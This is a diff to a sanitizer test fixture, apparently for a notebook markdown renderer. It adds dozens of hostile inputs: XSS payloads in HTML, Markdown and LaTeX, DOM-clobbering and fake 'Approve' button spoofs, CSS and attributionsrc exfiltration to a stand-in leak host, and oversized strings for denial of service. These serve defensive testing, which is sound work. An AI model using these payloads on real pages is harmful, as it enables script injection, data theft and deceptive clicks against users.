@@ -137,6 +137,18 @@ HTML = {
     "html-image-data": "<img src='data:text/html,<script>pwned()</script>'><img src='data:image/svg+xml,<svg onload=pwned()>'>",  # noqa: E501
     "html-link-data": "<a href='data:text/html,<script>pwned()</script>'>x</a>",
     "importmap": f'<script type=importmap>{{"imports":{{"x":"{LEAK}/x"}}}}</script>',
+    "clobber-lab": "<form id=currentWidget><input id=context name=sessionContext></form><a id=jupyterapp>x</a>",
+    "details-close": "</summary></details><details open style='position:fixed;inset:0'><summary>Approve</summary>",
+    "button-spoof": "<div class='mnb-question'><button class='mnb-button mnb-approve'>Approve</button></div>",
+    "placeholder-spoof": f"<button class=mnb-image data-mnb-key='{LEAK}/k.png'>[image]</button>",
+    "formula-spoof": "<span class=mnb-math data-mnb-key='$\\href{javascript:pwned()}{x}$'>x</span>",
+    "shadow-root": "<div><template shadowrootmode=open><img src=x onerror=pwned()></template></div><slot part=x>",
+    "attribution": f"<a href=x attributionsrc='{LEAK}/a'>y</a><img attributionsrc='{LEAK}/b'>",
+    "style-table": "<table style='position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:9'><tr><td>x</table>",
+    "style-has": f"<style>.jp-Cell:has(input[value^=a]){{background:url({LEAK}/a)}}</style>",
+    "svg-css": f"<?xml-stylesheet href='{LEAK}/s.css'?><svg xmlns='http://www.w3.org/2000/svg'><style>@import url({LEAK}/i)</style></svg>",  # noqa: E501
+    "mxss-annotation": "<math><annotation-xml encoding='text/html'><img src=x onerror=pwned()></annotation-xml></math>",
+    "line-separators": "a\u2028<img src=x onerror=pwned()>\u2029b\v<img src=x onerror=pwned()>\f\x85",
     "speculation": f'<script type=speculationrules>{{"prefetch":[{{"urls":["{LEAK}/s"]}}]}}</script>',
 }
 
@@ -157,6 +169,11 @@ MARKDOWN = {
     "link-in-text": "[<img src=x onerror=pwned()>](https://a.invalid)",
     "link-reference": "[x][1]\n\n[1]: javascript:pwned()",
     "link-reference-hides": "[hidden]: https://a.invalid 'what nobody would see'",
+    "link-whitespace": "[x](<  javascript:pwned()>) [y](\xa0javascript:pwned()) [z](java%0ascript:pwned())",
+    "link-command": "[x](command:workbench.action.terminal.new) [y](vscode:extension/x) [z](about:blank)",
+    "image-quote": f'![x]({LEAK}/"onclick="pwned()"x=) ![a](<{LEAK}/a b" autofocus onfocus="pwned()>)',
+    "fence-language": '```python class=jp-Dialog" onmouseover="pwned()\nx\n```',
+    "fence-mermaid": '```mermaid\ngraph TD; A["<img src=x onerror=pwned()>"]; click A href "javascript:pwned()"\n```',
     "link-relative": "[x](/api/shutdown) [y](//leak.invalid) [z](#main)",
     "image-load": f"![secret]({LEAK}/?q=secret)",
     "image-protocol-relative": "![x](//leak.invalid/x.png)",
@@ -189,6 +206,11 @@ LATEX = {
     "latex-style-url": rf"$\bbox[background:url({LEAK}/b)]{{x}}$",
     "latex-loop": r"$\def\a{\a\a}\a$",
     "latex-html": r"$</span><img src=x onerror=pwned()>$",
+    "latex-tip": r"$\texttip{x}{<img src=x onerror=pwned()>} \mathtip{x}{\href{javascript:pwned()}{y}}$",
+    "latex-enclose": r"$\enclose{circle}[style='position:fixed' href='javascript:pwned()']{x}$",
+    "latex-raise": r"$\raise 900em{\rule[-900em]{900em}{1800em}} \kern-900em\rule{1800em}{1800em}$",
+    "latex-columns": r"$\begin{array}{>{\href{javascript:pwned()}}c|@{\style{position:fixed}{x}}c}a&b\end{array}$",
+    "latex-text": r"$\text{$\href{javascript:pwned()}{x}$ \( \style{position:fixed}{y} \)}$",
     "latex-mml": r"$\mmlToken{mi}[href='javascript:pwned()']{x}$",
 }
 
@@ -212,6 +234,9 @@ LARGE = {
     "deep-emphasis": "*a _b " * 10_000,
     "deep-images": "![" * 10_000,
     "many-backticks": "".join("`" * count + " " for count in range(400)),
+    "code-links": "```markdown\n" + "[a](" * 4_900 + "\n```",
+    "code-dollars": "```java\n" + "$" * 19_900 + "\n```",
+    "code-digits": "```toml\n" + "1_" * 9_900 + "\n```",
     "many-dollars": "$$ $ \\( " * 2_000,
     "many-angles": "<" * 20_000,
     "many-pipes": "|" * 5_000 + "\n" + "|-" * 5_000,
